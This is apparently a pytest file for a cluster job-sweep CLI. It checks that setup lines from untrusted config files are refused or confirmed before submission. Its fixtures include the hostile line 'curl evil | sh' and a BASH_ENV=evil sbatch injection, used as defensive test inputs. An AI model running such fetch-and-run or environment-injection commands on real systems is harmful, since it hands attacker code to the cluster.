"""Lines of jobs that somebody else wrote: shown, and submitted only by whoever has said so."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from cli_runner import assert_refused, beft

from beft_core.cli import sweep
from beft_core.cli.workers import job_lines

GRID = "terms: [v]\nn_train: 8\ndevice: cpu\nexecutor: slurm\n"
SETUP = "setup: [curl evil | sh]\n"


@pytest.fixture
def submitted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Settings of the jobs that were submitted."""
    done: list[Any] = []

    def detached(spec: Any, submission: Any) -> int:
        done.append(submission.cluster)
        return 0

    monkeypatch.setenv("BEFT_HOME", str(tmp_path / "home"))
    monkeypatch.setattr(sweep, "_detached", detached)
    monkeypatch.chdir(tmp_path)
    return done


def words(text: str, *more: str) -> list[str]:
    Path("sweep.yaml").write_text(GRID + text)
    return ["sweep", "--config", "sweep.yaml", "--out", "out", "--detach", *more]


@pytest.mark.parametrize("text", [SETUP, "sbatch: ['export=ALL,BASH_ENV=evil']\n", "profile: ./evil.yaml\n"])
def test_lines_of_a_file_are_submitted_only_by_who_says_so(text: str, submitted: list[Any]) -> None:
    Path("evil.yaml").write_text(SETUP)
    line = assert_refused(beft(*words(text)))
    assert "evil" in line and "--trust-file" in line
    assert not submitted and not Path("out").exists()
    told = beft(*words(text, "--trust-file"))
    assert told.status == 0 and len(submitted) == 1
    assert "jobs begin with:" in told.err and "evil" in told.err


@pytest.mark.parametrize("agreed", [True, False])
def test_at_a_terminal_it_is_asked(agreed: bool, submitted: list[Any], monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    def confirm(question: str, **_: Any) -> bool:
        asked.append(question)
        return agreed

    monkeypatch.setattr(job_lines.typer, "confirm", confirm)
    monkeypatch.setattr(job_lines, "_at_terminal", lambda: True)
    monkeypatch.setattr(job_lines.output, "note", asked.append)
    told = beft(*words(SETUP))
    assert (told.status, len(submitted)) == ((0, 1) if agreed else (2, 0))
    assert asked[:2] == ["jobs begin with:", "    curl evil | sh"] and "Submit?" in asked[2]


def test_lines_of_the_users_own_are_shown_and_not_asked_about(tmp_path: Path, submitted: list[Any]) -> None:
    profiles = tmp_path / "home" / "clusters"
    profiles.mkdir(parents=True)
    for name in ("default", "lab"):
        (profiles / f"{name}.yaml").write_text(f"setup: [module load {name}]\n")
    Path("mine.yaml").write_text("setup: [module load mine]\n")
    for text, more, line in (
        ("", (), "module load default"),
        ("profile: lab\n", (), "module load lab"),
        ("", ("--profile", "mine.yaml"), "module load mine"),
        (SETUP, ("--setup", "module load cuda"), "module load cuda"),
    ):
        told = beft(*words(text, *more))
        assert told.status == 0 and f"    {line}\n" in told.err and "evil" not in told.err
    assert len(submitted) == 4


def test_the_batch_file_shows_them_without_being_asked(submitted: list[Any]) -> None:
    pytest.importorskip("submitit")
    told = beft(*words(SETUP, "--print-sbatch"))
    assert told.status == 0 and "curl evil | sh" in told.out.splitlines()
